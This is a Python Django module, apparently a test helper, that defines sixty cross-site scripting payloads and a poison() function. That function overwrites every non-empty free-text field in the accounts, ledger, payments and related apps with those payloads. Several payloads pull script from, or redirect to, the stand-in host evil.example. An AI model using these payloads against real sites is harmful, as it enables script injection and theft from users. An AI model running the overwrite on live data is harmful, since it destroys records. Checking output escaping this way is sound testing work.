"""Sixty strings that would run, or break out of where they stand, if a page ever took them for markup."""

from __future__ import annotations

from django.apps import apps
from django.db import DatabaseError, models, transaction

_RUN = "window.ran=1"
_MARKUP = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={}>",
    '"><img src=x onerror={}>', "'><img src=x onerror={}>", "`><img src=x onerror={}>", "<svg onload={}>",
    "<svg/onload={}>", "'><svg onload={}>", '"><svg onload={}>', "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe src=javascript:{}>", "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<video src=x onerror={}>", "<audio src=x onerror={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<marquee onstart={}>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<math><mtext><script>{}</script>", "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example>",
    "<a href=javascript:{}>x</a>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</style><script>{}</script>", "</script><script>{}</script>", "</option></select><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "<!--<script>{}</script>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<xss autofocus tabindex=1 onfocus={}>",
    '" onmouseover="{}', "' onmouseover='{}", '" autofocus onfocus="{}', "' autofocus onfocus='{}", '" style="x:{}',
    "x onerror={}", "{{{{7*7}}}}{}", "${{{{7*7}}}}{}", "{{% debug %}}{}", "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E",
    "<scr<script>ipt>{}</scr</script>ipt>", "＜script＞{}＜/script＞", "<div hx-get=/panel/ hx-trigger=load hx-on::load={}>",
    "<img src=x hx-on:error={}>",
)
STRINGS = [text.format(_RUN) for text in _MARKUP]
_OURS = ("accounts", "ledger", "webhooks", "payments", "payouts", "crypto")
# What the program itself makes of text, or compares with: not what people write.
_NOT_WRITTEN = ("digest", "sha256", "encrypted", "password", "session_key", "hash", "signature", "lease", "lookup",
                "identifier", "public_id", "provider", "sender", "recipient", "raw", "hint", "event", "action", "subject",
                "columns")


def poison() -> set[str]:
    """Puts one of the strings into every text of every row that no rule of the database keeps; returns the fields."""
    done: set[str] = set()
    for model in apps.get_models():
        if model._meta.app_label not in _OURS:
            continue
        for field in model._meta.concrete_fields:
            if _is_written_by_people(field) and _put(model, field, STRINGS[len(done) % len(STRINGS)]):
                done.add(f"{model.__name__}.{field.name}")
    return done


def _is_written_by_people(field: models.Field) -> bool:
    words = any(word in field.name for word in _NOT_WRITTEN)
    return type(field) in (models.CharField, models.TextField) and not (field.choices or field.unique or words) \
        and (field.max_length or 200) >= 40


def _put(model: type[models.Model], field: models.Field, text: str) -> bool:
    try:
        with transaction.atomic():
            return bool(model._base_manager.exclude(**{field.name: ""}).update(**{field.name: text[: field.max_length]}))
    except DatabaseError:  # guarded by a trigger, or part of a rule
        return False
